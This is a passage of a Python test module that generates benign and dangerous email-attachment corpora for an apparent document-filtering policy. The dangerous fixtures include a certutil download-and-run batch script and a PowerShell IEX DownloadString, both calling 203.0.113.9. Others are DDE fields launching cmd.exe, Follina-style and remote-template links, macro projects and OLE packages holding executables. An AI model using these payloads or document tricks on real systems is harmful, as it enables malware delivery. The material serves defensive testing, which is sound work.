"""Generated document corpora: ordinary documents that must pass, dangerous ones that must not.

Benign: documents written by python-docx, python-pptx, openpyxl and odfpy, the same converted by
LibreOffice (headless) to OOXML, legacy OLE2 Office, RTF, ODF and PDF, and then given what real
Office writes that those libraries do not: printer settings (``printerSettings1.bin`` is in
almost every PowerPoint deck), media, embedded fonts, thumbnails, custom XML, an embedded
workbook, a PDF embedded as an OLE package, external hyperlinks and a local attached template.

Dangerous: macros (VBA in OOXML, legacy OLE2, Excel 4 sheets, ODF Basic and script events),
OLE packages carrying executables and scripts, the Equation Editor object, ActiveX, remote
templates and Follina-style links, DDE in Word, Excel and RTF, executable bytes in a part named
like an image, scripts and EICAR renamed ``.pdf`` or declared ``image/*``, at archive depth.

``python -m tests.document_corpus`` prints how many of each the shipped policy stops.
"""

from __future__ import annotations

import base64
import functools
import io
import os
import re
import shutil
import struct
import subprocess
import tempfile
import zipfile
from pathlib import Path

from tests import attachment_builders as b
from tests.cfb import cfb, ole_native

EICAR = base64.b64decode("WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FSLVNUQU5EQVJELUFOVElWSVJVUy1URVNULUZJTEUhJEgrSCo=")

Sample = tuple[str, bytes, str]  # (file name, bytes, declared Content-Type)

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PPTX = "application/vnd.openxmlformats-officedocument.presentationml.presentation"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

BAT = b"@echo off\r\nset target=%TEMP%\\upd.exe\r\ncertutil -urlcache -f http://203.0.113.9/a %target%\r\nstart %target%\r\n"
VBS = b'Set sh = CreateObject("WScript.Shell")\r\nsh.Run "powershell -nop -w hidden -c calc", 0\r\n'
PS1 = b"$c = New-Object Net.WebClient\r\nIEX $c.DownloadString('http://203.0.113.9/p')\r\n"
JSCRIPT = b'var sh = new ActiveXObject("WScript.Shell");\r\nsh.Run("calc.exe");\r\n'
HTA = b'<html><head><hta:application id="x" windowstate="minimize"/></head><body><script language="VBScript">\r\nCreateObject("WScript.Shell").Run "calc"\r\n</script></body></html>'
CMD = b"@echo off\r\ncd /d %~dp0\r\ncmd /c del /q %APPDATA%\\*.lnk\r\n"


# --- realistic parts Office writes ------------------------------------------------------------


def devmode(printer: str = "\\\\print01\\Staff Room MFP") -> bytes:
    """A DEVMODEW structure like the printerSettingsN.bin parts Office stores."""
    name = printer.encode("utf-16-le")[:62].ljust(64, b"\x00")
    fields = struct.pack("<HHHHI", 0x0401, 0x0401, 220, 1280, 0x0F7FFF13)
    fields += struct.pack("<hhhhhhhhhhhh", 1, 9, 2970, 2100, 100, 1, 7, 600, 1, 1, 600, 1)
    form = "A4".encode("utf-16-le").ljust(64, b"\x00")
    private = bytes((i * 37 + 11) % 256 for i in range(1280))
    return name + fields + form + b"\x00" * 32 + private


def mp4() -> bytes:
    return (
        struct.pack(">I", 24)
        + b"ftypmp42"
        + b"\x00\x00\x00\x00mp42isom"
        + struct.pack(">I", 8)
        + b"free"
        + b"\x11" * 4000
    )


def fntdata() -> bytes:
    """An embedded (obfuscated) font: binary noise to libmagic."""
    return bytes((i * 131 + 7) % 251 for i in range(6000))


def custom_xml() -> dict[str, bytes]:
    return {
        "customXml/item1.xml": b'<?xml version="1.0" encoding="UTF-8" standalone="no"?><b:Sources xmlns:b="http://schemas.openxmlformats.org/officeDocument/2006/bibliography" SelectedStyle="\\APASixthEditionOfficeOnline.xsl"/>',
        "customXml/itemProps1.xml": b'<?xml version="1.0" encoding="UTF-8" standalone="no"?><ds:datastoreItem ds:itemID="{6A3C0AF9-1D5E-4C8D-9E0B-61B2A5C1E1B0}" xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml"><ds:schemaRefs/></ds:datastoreItem>',
        "customXml/_rels/item1.xml.rels": b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/customXmlProps" Target="itemProps1.xml"/></Relationships>',
    }


def rel(rid: str, kind: str, target: str, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{REL}/{kind}" Target="{target}"{mode}/>'


def inject(
    package: bytes,
    parts: dict[str, bytes],
    rels: dict[str, list[str]] | None = None,
    types: list[str] | None = None,
    drop: tuple[str, ...] = (),
) -> bytes:
    """Rewrite an OPC/ODF zip with extra parts, relationships and content-type entries."""
    rels = dict(rels or {})
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(package)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        names = src.namelist()
        for name in names:
            if name in drop or name in parts:
                continue
            data = src.read(name)
            if name in rels:
                data = data.replace(b"</Relationships>", "".join(rels.pop(name)).encode() + b"</Relationships>")
            if name == "[Content_Types].xml" and types:
                data = data.replace(b"</Types>", "".join(types).encode() + b"</Types>")
            compress = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            dst.writestr(zipfile.ZipInfo(name, (2024, 9, 2, 8, 30, 0)), data, compress_type=compress)
        for name, entries in rels.items():
            head = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            dst.writestr(name, head + "".join(entries).encode() + b"</Relationships>")
        for name, data in parts.items():
            dst.writestr(name, data)
    return out.getvalue()


# --- documents from the libraries -----------------------------------------------------------------


def _png() -> bytes:
    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", (64, 48), (30, 90, 160)).save(buf, "PNG")
    return buf.getvalue()


def _jpeg() -> bytes:
    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", (96, 64), (200, 120, 40)).save(buf, "JPEG")
    return buf.getvalue()


def make_docx(text: str = "Year 6 trip to the science museum", fields: bool = False) -> bytes:
    import docx

    doc = docx.Document()
    doc.add_heading("Parents' letter", level=1)
    doc.add_paragraph(text)
    table = doc.add_table(rows=3, cols=3)
    for r in range(3):
        for c in range(3):
            table.cell(r, c).text = f"R{r}C{c}"
    doc.add_picture(io.BytesIO(_png()))
    if fields:
        # A page-number field and a hyperlink field, as Word writes them (split across runs).
        p = doc.add_paragraph("Page ")
        for piece in (
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r>',
            '<w:r><w:instrText xml:space="preserve"> PAGE </w:instrText></w:r>',
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>',
        ):
            from docx.oxml import parse_xml

            p._p.append(
                parse_xml(
                    piece.replace(
                        "<w:r>", '<w:r xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                    )
                )
            )
    buf = io.BytesIO()
    doc.save(buf)
    return buf.getvalue()


def make_pptx(slides: int = 4) -> bytes:
    import pptx
    from pptx.util import Inches

    deck = pptx.Presentation()
    for n in range(slides):
        slide = deck.slides.add_slide(deck.slide_layouts[1])
        slide.shapes.title.text = f"Lesson {n + 1}: fractions"
        slide.placeholders[1].text = "Halves, quarters and eighths"
        slide.shapes.add_picture(io.BytesIO(_png()), Inches(1), Inches(4))
    buf = io.BytesIO()
    deck.save(buf)
    return buf.getvalue()


def make_xlsx(formulas: bool = True) -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = "Budget"
    ws.append(["Item", "Cost", "Qty", "Total"])
    for i in range(2, 30):
        ws.append([f"Glue sticks {i}", 1.25 * i, i, f"=B{i}*C{i}" if formulas else 1.25 * i * i])
    ws["F1"] = '=CONCATENATE(A2," | ",A3)'
    wb.create_sheet("Notes")["A1"] = "Prices from the 2024 catalogue"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def make_odf(kind: str) -> bytes:
    from odf.draw import Frame, Image, Page
    from odf.opendocument import OpenDocumentPresentation, OpenDocumentSpreadsheet, OpenDocumentText
    from odf.table import Table, TableCell, TableRow
    from odf.text import H, P

    if kind == "odt":
        doc = OpenDocumentText()
        doc.text.addElement(H(outlinelevel=1, text="Governors' minutes"))
        doc.text.addElement(P(text="Apologies were received from two governors."))
        href = doc.addPicture("Pictures/logo.png", "image/png", _png())
        frame = Frame(width="2cm", height="1.5cm", anchortype="paragraph")
        frame.addElement(Image(href=href))
        para = P()
        para.addElement(frame)
        doc.text.addElement(para)
    elif kind == "ods":
        doc = OpenDocumentSpreadsheet()
        table = Table(name="Register")
        for r in range(10):
            row = TableRow()
            for c in range(4):
                cell = TableCell(valuetype="float", value=r * c)
                row.addElement(cell)
            table.addElement(row)
        doc.spreadsheet.addElement(table)
    else:
        doc = OpenDocumentPresentation()
        from odf.style import MasterPage, PageLayout

        layout = PageLayout(name="PL")
        doc.automaticstyles.addElement(layout)
        master = MasterPage(name="Default", pagelayoutname=layout)
        doc.masterstyles.addElement(master)
        for n in range(3):
            page = Page(masterpagename=master, name=f"page{n}")
            doc.presentation.addElement(page)
    buf = io.BytesIO()
    doc.write(buf)
    return buf.getvalue()


def make_epub() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(zipfile.ZipInfo("mimetype"), b"application/epub+zip", compress_type=zipfile.ZIP_STORED)
        zf.writestr(
            "META-INF/container.xml",
            b'<?xml version="1.0"?><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="OEBPS/content.opf" media-type="application/oebps-package+xml"/></rootfiles></container>',
        )
        zf.writestr(
            "OEBPS/content.opf",
            b'<?xml version="1.0"?><package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="id"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier id="id">urn:uuid:1</dc:identifier><dc:title>Reading list</dc:title></metadata><manifest><item id="c1" href="c1.xhtml" media-type="application/xhtml+xml"/><item id="cover" href="images/cover.jpg" media-type="image/jpeg"/><item id="f" href="fonts/serif.otf" media-type="font/otf"/><item id="js" href="scripts/nav.js" media-type="application/javascript"/></manifest><spine><itemref idref="c1"/></spine></package>',
        )
        zf.writestr(
            "OEBPS/c1.xhtml",
            b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><h1>Chapter 1</h1><p>Once upon a time.</p></body></html>',
        )
        zf.writestr("OEBPS/images/cover.jpg", _jpeg())
        zf.writestr("OEBPS/fonts/serif.otf", b"OTTO" + fntdata())
        zf.writestr("OEBPS/scripts/nav.js", b"document.querySelectorAll('nav a').forEach(a => a.classList.add('x'));\n")
    return out.getvalue()


def make_pdf(text: str = "Spring term newsletter") -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_metadata({"/Title": text})
    writer.add_attachment("timetable.csv", b"Mon,Maths\nTue,English\n")
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def rtf_with_picture() -> bytes:
    return (
        b"{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Calibri;}}\\f0\\fs22 Dear parents,\\par{\\pict\\pngblip\\picw64\\pich48 "
        + _png().hex().encode()
        + b"}\\par}"
    )


def rtf_object(class_name: str, native: bytes, ole_type: int = 2) -> bytes:
    """An RTF ``\\object`` whose ``\\objdata`` is an OLE 1.0 object of ``class_name``."""
    name = class_name.encode("latin-1") + b"\x00"
    ole1 = struct.pack("<II", 0x00000501, ole_type) + struct.pack("<I", len(name)) + name
    ole1 += struct.pack("<I", 0) + struct.pack("<I", 0) + struct.pack("<I", len(native)) + native
    return (
        b"{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}\\f0 See the attached file.\\par"
        b"{\\object\\objemb\\objw2000\\objh500{\\*\\objclass "
        + class_name.encode()
        + b"}{\\*\\objdata "
        + ole1.hex().encode()
        + b"}}\\par}"
    )


# --- LibreOffice ----------------------------------------------------------------------------------


def soffice() -> str | None:
    return shutil.which("soffice") or shutil.which("libreoffice")


@functools.lru_cache(maxsize=1)
def libreoffice_documents() -> dict[str, bytes]:
    """Sources converted by LibreOffice headless to every format staff send (one call per target)."""
    exe = soffice()
    if exe is None:
        return {}
    with tempfile.TemporaryDirectory(prefix="aup-lo-") as tmp:
        root = Path(tmp)
        sources = {
            "letter.odt": make_odf("odt"),
            "budget.xlsx": make_xlsx(),
            "lesson.pptx": make_pptx(3),
            "minutes.docx": make_docx(),
            "register.ods": make_odf("ods"),
            "talk.odp": make_odf("odp"),
        }
        for name, data in sources.items():
            (root / name).write_bytes(data)
        targets = {
            "docx": ["letter.odt"],
            "xlsx": ["register.ods"],
            "pptx": ["talk.odp", "lesson.pptx"],
            "doc": ["letter.odt", "minutes.docx"],
            "rtf": ["letter.odt", "minutes.docx"],
            "xls": ["budget.xlsx"],
            "ods": ["budget.xlsx"],
            "ppt": ["lesson.pptx"],
            "odp": ["lesson.pptx"],
            "pdf": ["letter.odt", "lesson.pptx"],
            "odt": ["minutes.docx"],
        }
        env = dict(os.environ, HOME=str(root))
        made: dict[str, bytes] = {}
        for target, inputs in targets.items():
            outdir = root / f"out-{target}"
            subprocess.run(
                [
                    exe,
                    f"-env:UserInstallation=file://{root}/profile",
                    "--headless",
                    "--norestore",
                    "--convert-to",
                    target,
                    "--outdir",
                    str(outdir),
                    *inputs,
                ],
                cwd=root,
                env=env,
                capture_output=True,
                timeout=180,
                check=False,
            )
            for path in sorted(outdir.glob("*")) if outdir.exists() else []:
                made[f"lo-{path.stem}.{target}"] = path.read_bytes()
        return made


# --- the corpora ------------------------------------------------------------------------------------


def _office_extras_pptx(deck: bytes) -> bytes:
    embedded = make_xlsx()
    embedded_ole = cfb(
        {
            "Workbook": b"\x09\x08" + b"\x00" * 2000,
            "\x01CompObj": b"\x01\x00\xfe\xff",
            "\x05SummaryInformation": b"\xfe\xff",
        },
        root_clsid="00020820-0000-0000-C000-000000000046",
    )
    return inject(
        deck,
        {
            "ppt/printerSettings/printerSettings1.bin": devmode(),
            "ppt/media/media1.mp4": mp4(),
            "ppt/media/image9.jpeg": _jpeg(),
            "ppt/fonts/font1.fntdata": fntdata(),
            "docProps/thumbnail.jpeg": _jpeg(),
            "ppt/embeddings/Microsoft_Excel_Worksheet.xlsx": embedded,
            "ppt/embeddings/oleObject1.bin": embedded_ole,
            **custom_xml(),
        },
        rels={
            "ppt/_rels/presentation.xml.rels": [
                rel("rId90", "printerSettings", "printerSettings/printerSettings1.bin"),
                rel("rId91", "font", "fonts/font1.fntdata"),
                rel("rId92", "customXml", "../customXml/item1.xml"),
            ],
            "ppt/slides/_rels/slide1.xml.rels": [
                rel("rId90", "video", "../media/media1.mp4"),
                rel("rId91", "package", "../embeddings/Microsoft_Excel_Worksheet.xlsx"),
                rel("rId92", "oleObject", "../embeddings/oleObject1.bin"),
                rel("rId93", "hyperlink", "https://www.bbc.co.uk/bitesize", True),
            ],
            "_rels/.rels": [rel("rId90", "metadata/thumbnail", "docProps/thumbnail.jpeg")],
        },
        types=[
            '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.presentationml.printerSettings"/>',
            '<Default Extension="mp4" ContentType="video/mp4"/>',
            '<Default Extension="fntdata" ContentType="application/x-fontdata"/>',
        ],
    )


def _office_extras_xlsx(book: bytes) -> bytes:
    return inject(
        book,
        {
            "xl/printerSettings/printerSettings1.bin": devmode(),
            "xl/printerSettings/printerSettings2.bin": devmode("Canon iR-ADV C5535"),
            "docProps/thumbnail.wmf": b"\xd7\xcd\xc6\x9a" + b"\x00" * 2000,
            "xl/externalLinks/externalLink1.xml": b'<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>',
            "xl/externalLinks/_rels/externalLink1.xml.rels": (
                '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                + rel("rId1", "externalLinkPath", "file:///\\\\fileserver\\finance\\2024\\budget.xlsx", True)
                + "</Relationships>"
            ).encode(),
            **custom_xml(),
        },
        rels={
            "xl/worksheets/_rels/sheet1.xml.rels": [
                rel("rId90", "printerSettings", "../printerSettings/printerSettings1.bin"),
                rel("rId91", "hyperlink", "https://www.gov.uk/school-term-holiday-dates", True),
            ],
            "xl/_rels/workbook.xml.rels": [rel("rId90", "externalLink", "externalLinks/externalLink1.xml")],
        },
        types=[
            '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings"/>'
        ],
    )


def _office_extras_docx(document: bytes) -> bytes:
    pdf_package = cfb(
        {
            "\x01Ole10Native": ole_native("Risk assessment.pdf", make_pdf("Risk assessment")),
            "\x01CompObj": b"\x01\x00\xfe\xff",
        },
        root_clsid="0003000C-0000-0000-C000-000000000046",
    )
    return inject(
        document,
        {
            "word/fonts/font1.odttf": fntdata(),
            "word/media/image7.emf": b"\x01\x00\x00\x00" + b"\x00" * 40 + b" EMF" + b"\x00" * 2000,
            "docProps/thumbnail.emf": b"\x01\x00\x00\x00" + b"\x00" * 40 + b" EMF" + b"\x00" * 500,
            "word/embeddings/oleObject1.bin": pdf_package,
            "word/embeddings/Microsoft_Excel_Worksheet.xlsx": make_xlsx(),
            "word/printerSettings/printerSettings1.bin": devmode(),
            **custom_xml(),
        },
        rels={
            "word/_rels/document.xml.rels": [
                rel("rId90", "oleObject", "embeddings/oleObject1.bin"),
                rel("rId91", "package", "embeddings/Microsoft_Excel_Worksheet.xlsx"),
                rel("rId92", "hyperlink", "https://www.oakfield.example/term-dates", True),
                rel("rId93", "image", "media/image7.emf"),
            ],
            "word/_rels/settings.xml.rels": [
                rel(
                    "rId1",
                    "attachedTemplate",
                    "file:///C:\\Users\\jsmith\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm",
                    True,
                )
            ],
        },
        types=[
            '<Default Extension="odttf" ContentType="application/vnd.openxmlformats-officedocument.obfuscatedFont"/>'
        ],
    )


def benign() -> dict[str, list[Sample]]:
    """Name -> the attachments of one message; none of these may be stopped."""
    corpus: dict[str, list[Sample]] = {
        "docx-python-docx": [("letter.docx", make_docx(fields=True), DOCX)],
        "docx-office-extras": [("Trip letter.docx", _office_extras_docx(make_docx()), DOCX)],
        "docm-without-macros": [("template.docm", make_docx(), "application/vnd.ms-word.document.macroEnabled.12")],
        "pptx-python-pptx": [("Fractions.pptx", make_pptx(), PPTX)],
        "pptx-office-extras": [("Assembly.pptx", _office_extras_pptx(make_pptx(6)), PPTX)],
        "pptx-printer-settings-only": [
            ("deck.pptx", inject(make_pptx(2), {"ppt/printerSettings/printerSettings1.bin": devmode()}), PPTX)
        ],
        "ppsx-octet-stream": [("Show.ppsx", _office_extras_pptx(make_pptx(2)), "application/octet-stream")],
        "xlsx-openpyxl": [("Budget.xlsx", make_xlsx(), XLSX)],
        "xlsx-office-extras": [("Budget 2024.xlsx", _office_extras_xlsx(make_xlsx()), XLSX)],
        "xlsm-without-macros": [("tracker.xlsm", make_xlsx(), "application/vnd.ms-excel.sheet.macroEnabled.12")],
        "odt-odfpy": [("minutes.odt", make_odf("odt"), "application/vnd.oasis.opendocument.text")],
        "ods-odfpy": [("register.ods", make_odf("ods"), "application/vnd.oasis.opendocument.spreadsheet")],
        "odp-odfpy": [("talk.odp", make_odf("odp"), "application/vnd.oasis.opendocument.presentation")],
        "odt-with-thumbnail-and-empty-basic": [
            (
                "form.odt",
                inject(
                    make_odf("odt"),
                    {
                        "Thumbnails/thumbnail.png": _png(),
                        "Basic/script-lc.xml": b'<?xml version="1.0"?><library:libraries xmlns:library="http://openoffice.org/2000/library"/>',
                        "Configurations2/accelerator/current.xml": b"",
                    },
                ),
                "application/vnd.oasis.opendocument.text",
            )
        ],
        "epub": [("Reading list.epub", make_epub(), "application/epub+zip")],
        "pdf-pypdf-with-attachment": [("newsletter.pdf", make_pdf(), "application/pdf")],
        "rtf-with-picture": [("letter.rtf", rtf_with_picture(), "application/rtf")],
        "rtf-embedded-worksheet": [
            (
                "report.rtf",
                rtf_object("Excel.Sheet.8", cfb({"Workbook": b"\x09\x08" + b"\x00" * 100})),
                "application/rtf",
            )
        ],
        "rtf-embedded-pdf-package": [
            ("pack.rtf", rtf_object("Package", ole_native("guide.pdf", make_pdf())[4:]), "text/rtf")
        ],
        "doc-legacy": [("old.doc", b.ole_doc(macro=False), "application/msword")],
        # A password-protected Word/Excel file is an OLE2 file holding the encrypted package.
        "docx-password-protected": [
            (
                "Pupil data.xlsx",
                cfb(
                    {
                        "EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00" + b"\x00" * 200,
                        "EncryptedPackage": bytes(range(256)) * 20,
                        "\x06DataSpaces/Version": b"\x3c\x00",
                    }
                ),
                XLSX,
            )
        ],
        "zip-of-documents": [
            (
                "coursework.zip",
                b.zip_of(
                    {
                        "a.docx": make_docx(),
                        "b.pptx": _office_extras_pptx(make_pptx(2)),
                        "c.xlsx": _office_extras_xlsx(make_xlsx()),
                    }
                ),
                "application/zip",
            )
        ],
        "eml-with-deck": [
            ("fwd.eml", _message_bytes([("deck.pptx", _office_extras_pptx(make_pptx(2)), PPTX)]), "message/rfc822")
        ],
        "pdf-image-text-mix": [
            ("scan.pdf", make_pdf("scan"), "application/pdf"),
            ("photo.jpg", _jpeg(), "image/jpeg"),
            ("notes.txt", b"Bring a packed lunch.\n@echo is not a command here\n", "text/plain"),
        ],
    }
    ctypes = {
        "docx": DOCX,
        "xlsx": XLSX,
        "pptx": PPTX,
        "pdf": "application/pdf",
        "rtf": "application/rtf",
        "doc": "application/msword",
        "xls": "application/vnd.ms-excel",
        "ppt": "application/vnd.ms-powerpoint",
    }
    for name, data in libreoffice_documents().items():
        ext = name.rsplit(".", 1)[-1]
        corpus[f"libreoffice-{name}"] = [(name, data, ctypes.get(ext, "application/octet-stream"))]
        if ext in ("docx", "xlsx", "pptx"):
            extras = {"docx": _office_extras_docx, "xlsx": _office_extras_xlsx, "pptx": _office_extras_pptx}[ext]
            corpus[f"libreoffice-{name}-office-extras"] = [(name, extras(data), ctypes[ext])]
    return corpus


def _message_bytes(attachments: list[Sample]) -> bytes:
    return b.message_with(attachments, sender="x@outside.test", to="t@oakfield.example")


def _ooxml_with(package: bytes, parts: dict[str, bytes], rels: dict[str, list[str]] | None = None) -> bytes:
    return inject(package, parts, rels=rels)


def _vba_project() -> bytes:
    return cfb(
        {
            "VBA/dir": b"\x01\x10\x00" + b"\x00" * 200,
            "VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff",
            "VBA/ThisDocument": b"\x00" * 300,
            "PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisDocument/&H00000000\r\n',
        }
    )


def _ole_package(filename: str, payload: bytes) -> bytes:
    return cfb(
        {"\x01Ole10Native": ole_native(filename, payload), "\x01CompObj": b"\x01\x00\xfe\xff"},
        root_clsid="0003000C-0000-0000-C000-000000000046",
    )


def _dde_docx() -> bytes:
    document = make_docx()
    with zipfile.ZipFile(io.BytesIO(document)) as zf:
        xml = zf.read("word/document.xml")
    field = (
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>'
        b'<w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r>'
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    xml = re.sub(rb"(<w:body>)", rb"\1" + field, xml, count=1)
    return inject(document, {"word/document.xml": xml})


def _dde_xlsx() -> bytes:
    book = make_xlsx()
    with zipfile.ZipFile(io.BytesIO(book)) as zf:
        xml = zf.read("xl/worksheets/sheet1.xml")
    xml = xml.replace(b"<f>B2*C2</f>", b"<f>cmd|' /C calc'!A0</f>", 1)
    return inject(book, {"xl/worksheets/sheet1.xml": xml})


def dangerous() -> dict[str, list[Sample]]:
    """Name -> the attachments of one message; every one must be stopped both ways."""
    pe = b.pe_bytes()
    docx_macro = _ooxml_with(
        make_docx(),
        {"word/vbaProject.bin": _vba_project()},
        {"word/_rels/document.xml.rels": [rel("rId99", "vbaProject", "vbaProject.bin")]},
    )
    corpus: dict[str, list[Sample]] = {
        "docm-vba": [("claim.docm", docx_macro, "application/vnd.ms-word.document.macroEnabled.12")],
        "docx-renamed-with-vba": [("claim.docx", docx_macro, DOCX)],
        "pptx-office-extras-plus-vba": [
            ("deck.pptm", _ooxml_with(_office_extras_pptx(make_pptx(2)), {"ppt/vbaProject.bin": _vba_project()}), PPTX)
        ],
        "xlsm-vba": [("invoice.xlsm", _ooxml_with(make_xlsx(), {"xl/vbaProject.bin": _vba_project()}), XLSX)],
        "xlsm-excel4-macrosheet": [
            (
                "invoice.xlsx",
                _ooxml_with(
                    make_xlsx(),
                    {
                        "xl/macrosheets/sheet1.xml": b'<?xml version="1.0"?><xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>'
                    },
                ),
                XLSX,
            )
        ],
        "doc-legacy-vba": [("letter.doc", b.ole_doc(macro=True), "application/msword")],
        "xls-legacy-vba": [
            (
                "sheet.xls",
                cfb(
                    {
                        "Workbook": b"\x09\x08" + b"\x00" * 100,
                        "_VBA_PROJECT_CUR/VBA/dir": b"\x01" * 20,
                        "_VBA_PROJECT_CUR/PROJECT": b"ID=",
                    }
                ),
                "application/vnd.ms-excel",
            )
        ],
        "odt-basic-macro": [
            (
                "form.odt",
                inject(
                    make_odf("odt"),
                    {
                        "Basic/script-lc.xml": b"<x/>",
                        "Basic/Standard/script-lb.xml": b"<x/>",
                        "Basic/Standard/Module1.xml": b'<?xml version="1.0"?><script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1">Sub Main\nShell("calc")\nEnd Sub</script:module>',
                    },
                ),
                "application/vnd.oasis.opendocument.text",
            )
        ],
        "ods-python-script": [
            (
                "calc.ods",
                inject(make_odf("ods"), {"Scripts/python/run.py": b"import os\nos.system('calc')\n"}),
                "application/vnd.oasis.opendocument.spreadsheet",
            )
        ],
        "odt-event-macro": [("open.odt", _odf_event_macro(), "application/vnd.oasis.opendocument.text")],
        "docx-ole-package-exe": [
            (
                "report.docx",
                _ooxml_with(make_docx(), {"word/embeddings/oleObject1.bin": _ole_package("invoice.exe", pe)}),
                DOCX,
            )
        ],
        "pptx-ole-package-bat": [
            (
                "deck.pptx",
                _ooxml_with(make_pptx(2), {"ppt/embeddings/oleObject1.bin": _ole_package("run.bat", BAT)}),
                PPTX,
            )
        ],
        "xlsx-ole-package-vbs": [
            (
                "book.xlsx",
                _ooxml_with(make_xlsx(), {"xl/embeddings/oleObject1.bin": _ole_package("Invoice.pdf.vbs", VBS)}),
                XLSX,
            )
        ],
        "doc-legacy-ole-package-exe": [
            (
                "old.doc",
                cfb(
                    {
                        "WordDocument": b"\xec\xa5" + b"\x00" * 100,
                        "ObjectPool/_1234567/\x01Ole10Native": ole_native("setup.exe", pe),
                    }
                ),
                "application/msword",
            )
        ],
        "rtf-package-exe": [
            ("statement.rtf", rtf_object("Package", ole_native("statement.exe", pe)[4:]), "application/rtf")
        ],
        "rtf-package-js": [
            ("statement.rtf", rtf_object("Package", ole_native("statement.js", JSCRIPT)[4:]), "application/msword")
        ],
        "rtf-equation-editor": [
            (
                "maths.rtf",
                rtf_object(
                    "Equation.3",
                    cfb(
                        {"Equation Native": b"\x1c\x00" + b"A" * 200}, root_clsid="0002CE02-0000-0000-C000-000000000046"
                    ),
                ),
                "application/rtf",
            )
        ],
        "docx-equation-ole": [
            (
                "maths.docx",
                _ooxml_with(
                    make_docx(),
                    {
                        "word/embeddings/oleObject1.bin": cfb(
                            {"Equation Native": b"\x1c\x00" + b"A" * 200},
                            root_clsid="0002CE02-0000-0000-C000-000000000046",
                        )
                    },
                ),
                DOCX,
            )
        ],
        "rtf-ddeauto": [
            (
                "notice.rtf",
                b'{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"}{\\fldrslt x}}}',
                "application/rtf",
            )
        ],
        "docx-ddeauto-split-runs": [("notice.docx", _dde_docx(), DOCX)],
        "xlsx-dde-formula": [("prices.xlsx", _dde_xlsx(), XLSX)],
        "xlsx-dde-link": [
            (
                "links.xlsx",
                _ooxml_with(
                    make_xlsx(),
                    {
                        "xl/externalLinks/externalLink1.xml": b'<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
                    },
                ),
                XLSX,
            )
        ],
        "docx-remote-template": [
            (
                "cv.docx",
                _ooxml_with(
                    make_docx(),
                    {},
                    {
                        "word/_rels/settings.xml.rels": [
                            rel("rId1", "attachedTemplate", "https://203.0.113.9/templates/cv.dotm", True)
                        ]
                    },
                ),
                DOCX,
            )
        ],
        "docx-unc-template": [
            (
                "cv.docx",
                _ooxml_with(
                    make_docx(),
                    {},
                    {
                        "word/_rels/settings.xml.rels": [
                            rel("rId1", "attachedTemplate", "\\\\203.0.113.9\\share\\t.dotm", True)
                        ]
                    },
                ),
                DOCX,
            )
        ],
        "docx-follina-oleobject": [
            (
                "doc.docx",
                _ooxml_with(
                    make_docx(),
                    {},
                    {
                        "word/_rels/document.xml.rels": [
                            rel(
                                "rId99",
                                "oleObject",
                                "mhtml:http://203.0.113.9/x.html!x-usc:http://203.0.113.9/x.html",
                                True,
                            )
                        ]
                    },
                ),
                DOCX,
            )
        ],
        "pptx-remote-frame": [
            (
                "deck.pptx",
                _ooxml_with(
